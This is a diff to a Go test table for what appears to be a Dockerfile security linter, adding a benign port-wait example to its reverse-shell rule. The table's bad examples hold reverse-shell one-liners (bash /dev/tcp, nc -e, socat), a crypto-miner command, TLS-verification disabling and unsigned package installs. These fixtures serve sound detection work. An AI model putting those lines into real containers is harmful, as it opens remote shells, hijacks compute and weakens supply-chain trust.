@@ -56,7 +56,7 @@ var examples = map[string]struct{ bad, good []string }{
 		[]string{"RUN curl -okernel https://x.example", "RUN curl -fsSL https://x.example -H 'k: v'", "RUN wget https://x.example", "RUN pip install a", "RUN git config http.sslVerify true"},
 	},
 	"BC-TLS-OFF-ENV":   {[]string{"ENV NODE_TLS_REJECT_UNAUTHORIZED=0", "ENV GOSUMDB=off", "ENV A=1 GIT_SSL_NO_VERIFY=true"}, []string{"ENV NODE_TLS_REJECT_UNAUTHORIZED=1", "ENV GIT_SSL_NO_VERIFY=0"}},
-	"BC-REVERSE-SHELL": {[]string{"RUN bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "RUN nc -e /bin/sh 192.0.2.1 4444", "RUN socat TCP:192.0.2.1:1 EXEC:/bin/sh"}, []string{"RUN nc -z localhost 80", "RUN ls /dev/"}},
+	"BC-REVERSE-SHELL": {[]string{"RUN bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "RUN nc -e /bin/sh 192.0.2.1 4444", "RUN socat TCP:192.0.2.1:1 EXEC:/bin/sh"}, []string{"RUN nc -z localhost 80", "RUN ls /dev/", "RUN timeout 9 bash -c 'until </dev/tcp/db/5432; do sleep 1; done'"}},
 	"BC-MINER":         {[]string{"RUN ./xmr" + "ig -o stratum" + "+tcp://pool.example:3333", "CMD [\"/usr/bin/xmr" + "ig\"]"}, []string{"RUN make miner", "LABEL x=xmr" + "ig"}},
 
 	"BC-PKG-UNSIGNED":   {[]string{"RUN apt-get install -y --allow-unauthenticated a", "RUN apk add --allow-untrusted a.apk", "RUN yum install -y --nogpgcheck a", "RUN echo 'deb [trusted=yes] https://x.example /' > /etc/apt/sources.list.d/x.list", "RUN printf '[x]\\ngpgcheck=0\\n' > /etc/yum.repos.d/x.repo", "RUN rpm -i --nosignature a.rpm", "RUN <<EOF\ncat > /etc/yum.repos.d/x.repo <<E\ngpgcheck = 0\nE\nEOF"}, []string{"RUN apt-get install -y a", "RUN apk add --no-cache a", "RUN printf 'gpgcheck=1' > x"}},
